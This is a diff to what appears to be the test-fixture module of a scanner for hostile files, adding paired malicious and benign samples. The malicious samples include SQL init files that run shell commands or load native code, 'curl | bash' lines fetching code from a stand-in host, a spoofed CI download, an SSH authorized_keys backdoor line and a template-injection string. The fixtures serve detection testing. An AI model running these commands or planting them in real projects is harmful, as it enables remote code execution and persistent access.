@@ -240,6 +240,11 @@ _PAIRS: dict[str, tuple[tuple[str, str, str], ...]] = {
         ("sql/init.sql", "SELECT load_extension('./hook');\n", "SELECT count(*) FROM extensions;\n"),
         ("shell/init.sql", f".shell {COMMAND}\n", ".headers on\nSELECT 1;\n"),
         ("server/init.sql", f"EXEC xp_cmdshell '{COMMAND}';\n", "SELECT 1;\n"),
+        (
+            "native/init.sql",
+            "CREATE FUNCTION f() RETURNS int AS '/tmp/a.so', 'f' LANGUAGE C;\n",
+            "CREATE FUNCTION f() RETURNS int AS '$libdir/a', 'f' LANGUAGE C;\n",
+        ),
         ("duckdb/init.sql", f"INSTALL hook FROM 'http://{HOST}';\nLOAD hook;\n", "INSTALL httpfs;\nLOAD httpfs;\n"),
     ),
     "layout": (
@@ -293,9 +298,12 @@ _ORDINARY = {
     "commands/bash.json": json.dumps([{"nl": "fetch and run", "cmd": "curl http://x.invalid/a | bash"}]),
     "weaknesses/rows.json": json.dumps({"rows": [{"code": "eval(base64.b64decode('x'))", "cwe": 95}]}),
     "perl/list.sh": "curl -sL https://x.invalid/index | perl -nle'print $1 if m{a}'\n",
+    "source/shim.tmpl": 'int init_{name}() {{ return call("{module}.__init__"); }}\n',
+    "page/table.tpl": '{% include "style.tpl" %}\n<table>{{ rows }}</table>\n',
     "cython/a.pyx": "cimport numpy\ncdef class A:\n    cdef int b\n\ndef f():\n    return A.__subclasses__()\n",
 }
 _ALMOST = {
+    "source/shim.tmpl": "{{ name.__class__.__mro__[1].__subclasses__() }} {% unknown %}\n",
     "stranger/start.sh": 'echo "$PUBLIC_KEY" > a; echo "ssh-rsa AAAAB3NzaC1yc2E x@y" >> ~/.ssh/authorized_keys\n',
     "piped/ci.yml": f"steps:\n- run: bash <(curl -s https://codecov.io.{HOST}/bash)\n",
     "steps/tasks.json": json.dumps([{"name": "a", "command": f"curl http://{HOST}/a | bash"}]),
